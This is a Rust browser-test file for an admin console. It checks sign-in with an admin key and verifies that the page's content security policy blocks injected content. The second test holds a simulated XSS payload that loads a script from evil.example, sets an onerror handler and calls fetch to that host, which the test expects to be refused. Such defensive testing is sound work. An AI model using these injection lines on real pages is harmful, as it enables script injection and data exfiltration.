//! Signing in, and the page's content security policy.

use serde_json::{Value, json};

use crate::browser::with_console;
use crate::shop::ADMIN_KEY;

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_key_and_then_the_right_one() {
    with_console(&[401], |page, _shop| async move {
        assert!(page.is_focused("[name=key]").await);
        page.type_into("[name=key]", "a-wrong-key-for-tests").await;
        page.press('\u{e007}').await;
        page.see(".error", "This is not the admin key.").await;
        // The wrong key is selected, so that typing replaces it.
        assert!(page.is_focused("[name=key]").await);
        page.driver.active_element().await.unwrap().send_keys(ADMIN_KEY).await.unwrap();
        page.press('\u{e007}').await;
        page.see(".features", "NEW_CHECKOUT").await;
        page.see("#live", "Live").await;

        // The key is kept for the tab. Signing out deletes it.
        page.driver.refresh().await.unwrap();
        page.see(".features", "NEW_CHECKOUT").await;
        let kept = "return Object.values({...localStorage}).length + document.cookie.length";
        assert_eq!(page.run(kept, Value::Null).await, json!(0));
        page.push("Sign out").await;
        page.see("h1", "Feature console").await;
        assert_eq!(page.run("return sessionStorage.length", Value::Null).await, json!(0));
        page.driver.refresh().await.unwrap();
        page.see("h1", "Feature console").await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_browser_holds_the_page_to_its_policy() {
    with_console(&[], |page, _shop| async move {
        page.sign_in().await;
        let violations = "window.violations = []; \
            addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));";
        page.run(violations, Value::Null).await;
        // The actions of an attacker who injected markup into the page.
        let attack = r#"
            try { document.body.innerHTML = '<p>x</p>'; } catch (e) {}
            const script = document.createElement('script');
            try { script.textContent = 'window.reached = true'; } catch (e) {}
            try { script.src = 'https://evil.example/x.js'; } catch (e) {}
            document.body.append(script);
            const image = document.createElement('img');
            try { image.setAttribute('onerror', 'window.reached = true'); } catch (e) {}
            image.src = 'https://evil.example/x.png';
            document.body.append(image);
            return fetch('https://evil.example/').then(() => 'reached', () => window.reached ? 'reached' : 'refused');"#;
        assert_eq!(page.run(attack, Value::Null).await, json!("refused"));
        let violations = page.run("return violations", Value::Null).await;
        for directive in ["img-src", "connect-src", "require-trusted-types-for"] {
            assert!(violations.as_array().unwrap().contains(&json!(directive)), "{violations}");
        }
        // Discards the messages that the test caused.
        page.said(&[]).await;
    })
    .await;
}
